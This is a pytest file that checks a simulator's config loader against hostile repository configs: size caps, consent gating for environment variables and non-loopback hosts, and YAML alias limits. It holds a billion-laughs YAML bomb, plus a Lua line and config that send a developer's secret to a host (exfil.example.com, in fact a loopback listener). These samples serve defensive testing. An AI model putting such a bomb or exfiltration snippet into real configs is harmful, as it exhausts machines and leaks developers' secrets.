"""Configuration cannot be turned against the machine (issue 19, item 3): bounded YAML, and a
repository's config.yaml reads the developer's environment or reaches beyond loopback only with
consent given outside the repository."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from murano_sim import load_config
from murano_sim.config import trust, yamlfile
from murano_sim.errors import ConfigError
from murano_sim.services.spec import load_spec
from murano_sim.solution.layouts import read_yaml

ROOT = Path(__file__).resolve().parent.parent
SECRET = "s3cr3t-value-that-must-stay-home"

# Nine levels of nine: 9**9 (387 million) strings once expanded.
LAUGHS = "".join(
    f"{name}: &{name} [{', '.join([f'*{prev}'] * 9) if prev else ', '.join(['lol'] * 9)}]\n"
    for prev, name in zip(["", "a", "b", "c", "d", "e", "f", "g", "h"], "abcdefghi", strict=True)
)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's own directories, away from the repository and from the real home."""
    for var in ("XDG_DATA_HOME", "XDG_CONFIG_HOME"):
        monkeypatch.setenv(var, str(tmp_path / "home" / var.lower()))
    monkeypatch.delenv(trust.TRUST_ENV, raising=False)
    return tmp_path / "home"


def cli(*args: str, cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    # timeout: a guard against the hang this file is about, not a timing assertion
    return subprocess.run(
        [sys.executable, "-m", "murano_sim.cli", *args], capture_output=True, text=True, cwd=cwd, timeout=120,
        env={**os.environ, "PYTHONPATH": str(ROOT), **env},
    )


# -- bounded YAML -----------------------------------------------------------------------------------
@pytest.mark.parametrize("where", ["top", "standin"])
def test_a_billion_laughs_config_is_one_line_and_exit_2(tmp_path, home, where):
    if where == "top":
        text = LAUGHS
    else:
        indented = "".join(f"        {line}\n" for line in LAUGHS.replace("a: &a", "op: &a").splitlines())
        text = f"services:\n  weather:\n    standin:\n      operations:\n{indented}"
    (tmp_path / "config.yaml").write_text(text)
    (tmp_path / "s.lua").write_text("return 1")
    result = cli("run", "s.lua", cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert result.stdout == ""
    line = result.stderr.strip()
    assert "\n" not in line and "Traceback" not in line
    assert line.startswith("murano-sim: config.yaml:") and "aliases expand to more than" in line


def test_the_bound_counts_expanded_nodes_and_names_the_line():
    with pytest.raises(yamlfile.YamlFileError) as info:
        yamlfile.parse(LAUGHS, "laughs.yaml")
    assert info.value.line is not None and info.value.line > 1
    assert str(info.value).startswith(f"laughs.yaml:{info.value.line}: YAML aliases expand to more than")


def test_an_alias_inside_its_own_anchor_is_refused():
    with pytest.raises(ConfigError, match=r"^loop.yaml:1: an alias refers to its own anchor"):
        yamlfile.parse("a: &a [1, *a]\n", "loop.yaml")


def test_ordinary_anchors_and_merge_keys_still_load():
    data = yamlfile.parse("base: &b {x: 1}\ncopy: *b\nmerged: {<<: *b, y: 2}\n", "ok.yaml")
    assert data == {"base": {"x": 1}, "copy": {"x": 1}, "merged": {"x": 1, "y": 2}}
    spec = load_spec(ROOT / "murano_sim" / "services" / "http" / "spec.yaml")  # *request, seven times
    assert spec.operations["put"].arguments == spec.operations["get"].arguments


def test_just_under_the_bound_loads_and_just_over_is_refused():
    width = yamlfile.MAX_ALIAS_NODES // 10  # each alias adds a list of 9 scalars: 10 nodes
    under = yamlfile.parse(f"a: &a [{', '.join(['x'] * 9)}]\nb: [{', '.join(['*a'] * width)}]\n", "ok")
    assert len(under["b"]) == width
    with pytest.raises(ConfigError, match="aliases expand"):
        yamlfile.parse(f"a: &a [{', '.join(['x'] * 9)}]\nb: [{', '.join(['*a'] * (width + 1))}]\n", "big")


def test_a_file_beyond_the_size_cap_is_refused_without_reading_it_whole(tmp_path):
    big = tmp_path / "config.yaml"
    with big.open("wb") as out:
        out.truncate(yamlfile.MAX_BYTES + 1)  # sparse: nothing is written
    with pytest.raises(ConfigError, match=r"config.yaml: larger than 10 MiB; refused"):
        load_config(big)
    if Path("/dev/zero").exists():  # an endless file: read up to the cap, then refused
        with pytest.raises(ConfigError, match="larger than"):
            yamlfile.load("/dev/zero")


def test_a_solutions_service_file_with_a_bomb_is_a_warning_not_a_hang(tmp_path):
    (tmp_path / "services").mkdir()
    (tmp_path / "services" / "keystore.yaml").write_text(LAUGHS)
    warnings: list[str] = []
    assert read_yaml(tmp_path, "services/keystore.yaml", warnings) is None
    assert len(warnings) == 1 and warnings[0].startswith("services/keystore.yaml:")
    assert "aliases expand" in warnings[0]


def test_a_case_file_and_a_seed_with_a_bomb_are_one_line_errors(tmp_path):
    from murano_sim.services.twilio.seed import load_seed
    from murano_sim.testing.cases import CaseFileError, load_cases

    case = tmp_path / "test_x.murano.yaml"
    case.write_text(LAUGHS)
    with pytest.raises(CaseFileError, match=r"test_x.murano.yaml:\d+: YAML aliases expand"):
        load_cases(case)
    (tmp_path / "seed.yaml").write_text(LAUGHS)
    with pytest.raises(ConfigError, match=r"emulator.seed: .*seed.yaml:\d+: YAML aliases expand"):
        load_seed("seed.yaml", tmp_path)


# -- ${VAR} and egress need consent -------------------------------------------------------------------
class Listener:
    """A loopback HTTP server that keeps every body it receives."""

    def __init__(self) -> None:
        bodies = self.bodies = []

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                bodies.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode())
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.server.shutdown()
    server.server.server_close()


EXFILTRATE = 'Http.post({url = "%s", body = "k=" .. (os.getenv("K") or "")})\nreturn "sent"'


def cloned_repo(tmp_path: Path, listener: Listener) -> Path:
    repo = tmp_path / "cloned"
    repo.mkdir()
    (repo / "config.yaml").write_text(
        'env: {K: "${HC_TEST_SECRET}"}\nservices:\n  http: {allow_hosts: [exfil.example.com, 127.0.0.1]}\n'
    )
    (repo / "s.lua").write_text(EXFILTRATE % listener.url)
    return repo


def test_a_cloned_config_cannot_send_the_developers_secret(tmp_path, home, listener):
    repo = cloned_repo(tmp_path, listener)
    result = cli("run", "s.lua", cwd=repo, HC_TEST_SECRET=SECRET)
    assert result.returncode == 0, result.stderr
    assert listener.bodies == ["k="]
    notice = result.stderr.strip()
    assert notice.count("\n") == 0 and SECRET not in notice
    assert "config.yaml: not trusted, so ignored: ${HC_TEST_SECRET} in env.K, services.http.allow_hosts" in notice
    assert "murano-sim trust DIR" in notice and "--trust" in notice and "MURANO_SIM_TRUST=1" in notice


@pytest.mark.parametrize("consent", ["flag", "env", "record", "user-file"])
def test_each_consent_lets_the_variable_through(tmp_path, home, listener, consent):
    repo = cloned_repo(tmp_path, listener)
    args, env = ["run", "s.lua"], {"HC_TEST_SECRET": SECRET}
    if consent == "flag":
        args.append("--trust")
    elif consent == "env":
        env[trust.TRUST_ENV] = "1"
    elif consent == "record":
        recorded = cli("trust", str(repo), cwd=tmp_path)
        assert recorded.returncode == 0 and "trusted" in recorded.stdout
    else:
        user = home / "xdg_config_home" / "murano-sim" / "config.yaml"
        user.parent.mkdir(parents=True)
        user.write_text("allow_env: [HC_TEST_SECRET]\n")
    result = cli(*args, cwd=repo, **env)
    assert result.returncode == 0, result.stderr
    assert listener.bodies == [f"k={SECRET}"]
    if consent == "user-file":  # the host is still not allowed, and said so
        assert "services.http.allow_hosts" in result.stderr and "HC_TEST_SECRET" not in result.stderr
    else:
        assert result.stderr == ""


def test_a_trust_record_lives_in_the_data_dir_and_ends_when_the_file_changes(tmp_path, home, listener):
    repo = cloned_repo(tmp_path, listener)
    before = sorted(p.name for p in repo.iterdir())
    assert cli("trust", cwd=repo).returncode == 0
    assert sorted(p.name for p in repo.iterdir()) == before  # nothing written inside the repository
    records = json.loads((home / "xdg_data_home" / "murano-sim" / "trusted.json").read_text())
    assert list(records) == [str((repo / "config.yaml").resolve())]
    with (repo / "config.yaml").open("a") as out:
        out.write("# changed after trust\n")
    changed = cli("run", "s.lua", cwd=repo, HC_TEST_SECRET=SECRET)
    assert changed.returncode == 0 and "not trusted" in changed.stderr
    assert cli("trust", cwd=repo).returncode == 0
    revoked = cli("trust", "--revoke", str(repo), cwd=tmp_path)
    assert revoked.returncode == 0 and "no longer trusted" in revoked.stdout
    again = cli("run", "s.lua", cwd=repo, HC_TEST_SECRET=SECRET)
    assert "not trusted" in again.stderr
    assert listener.bodies == ["k=", "k="]


def test_trust_of_a_folder_without_config_is_one_line_and_exit_2(tmp_path, home):
    result = cli("trust", str(tmp_path), cwd=tmp_path)
    assert result.returncode == 2 and result.stderr.count("\n") == 1 and "no such config file" in result.stderr


def untrusted(path: Path, **env: str) -> object:
    """load_config(path) as the CLI does it, without consent."""
    with trust.consent_scope(trust.cli_consent(False, environ={**os.environ, **env})):
        return load_config(path)


def test_own_variables_expand_each_where_it_belongs(tmp_path, home, monkeypatch, capsys):
    monkeypatch.setenv("MURANO_SIM_HC", "own")
    monkeypatch.setenv("TWILIO_AUTH_TOKEN", "0123456789abcdef0123456789abcdef")
    path = tmp_path / "config.yaml"
    path.write_text('env: {A: "${MURANO_SIM_HC}", T: "${TWILIO_AUTH_TOKEN:-none}"}\n'
                    'services: {twilio: {AuthToken: "${TWILIO_AUTH_TOKEN}"}}\n')
    config = untrusted(path)
    assert config.env == {"A": "own", "T": "none"}  # type: ignore[attr-defined]
    assert config.services["twilio"]["AuthToken"] == "0123456789abcdef0123456789abcdef"  # type: ignore[attr-defined]
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "${TWILIO_AUTH_TOKEN} in env.T" in err and "0123456789abcdef" not in err


def test_egress_beyond_loopback_is_dropped_without_consent_and_kept_with_it(tmp_path, home, capsys):
    path = tmp_path / "config.yaml"
    path.write_text(
        "services:\n"
        "  http: {allow_hosts: [api.example.com, localhost, '::1']}\n"
        "  email: {allow_hosts: [smtp.example.com]}\n"
        "  keystore: {url: 'redis://cache.example.com:6379/0'}\n"
        "  twilio: {backend: live}\n"
        "emulator: {allow_hosts: [hooks.example.com, 127.0.0.2]}\n"
    )
    config = untrusted(path)
    services = config.services  # type: ignore[attr-defined]
    assert services["http"]["allow_hosts"] == ["localhost", "::1"]
    assert services["email"]["allow_hosts"] == []
    assert "url" not in services["keystore"]
    assert services["twilio"]["backend"] == "local"
    assert config.section("emulator")["allow_hosts"] == ["127.0.0.2"]  # type: ignore[attr-defined]
    err = capsys.readouterr().err
    for setting in ("services.http.allow_hosts", "services.email.allow_hosts", "services.keystore.url",
                    "services.twilio.backend: live", "emulator.allow_hosts"):
        assert setting in err
    assert err.count("\n") == 1
    trusted = load_config(path)  # the library API: the developer's own Python
    assert trusted.services["http"]["allow_hosts"] == ["api.example.com", "localhost", "::1"]
    assert trusted.services["keystore"]["url"] == "redis://cache.example.com:6379/0"
    assert trusted.services["twilio"]["backend"] == "live"


def test_loopback_egress_needs_no_consent(tmp_path, home, capsys):
    path = tmp_path / "config.yaml"
    path.write_text("services:\n  keystore: {url: 'redis://127.0.0.1:6399/0'}\n"
                    "  twilio: {backend: live, base_url: 'http://127.0.0.1:8470'}\n")
    config = untrusted(path)
    assert config.services["keystore"]["url"] == "redis://127.0.0.1:6399/0"  # type: ignore[attr-defined]
    assert config.services["twilio"]["backend"] == "live"  # type: ignore[attr-defined]
    assert capsys.readouterr().err == ""


def test_the_users_file_allows_named_hosts_and_is_strict(tmp_path, home, capsys):
    user = home / "xdg_config_home" / "murano-sim" / "config.yaml"
    user.parent.mkdir(parents=True)
    user.write_text("allow_hosts: [API.example.com]\n")
    path = tmp_path / "config.yaml"
    path.write_text("services:\n  http: {allow_hosts: [api.example.com, other.example.com]}\n")
    assert untrusted(path).services["http"]["allow_hosts"] == ["api.example.com"]  # type: ignore[attr-defined]
    user.write_text("allow_envs: [X]\n")
    with pytest.raises(ConfigError, match=r"config.yaml: allow_envs: unknown key \(known: allow_env, allow_hosts\)"):
        untrusted(path)
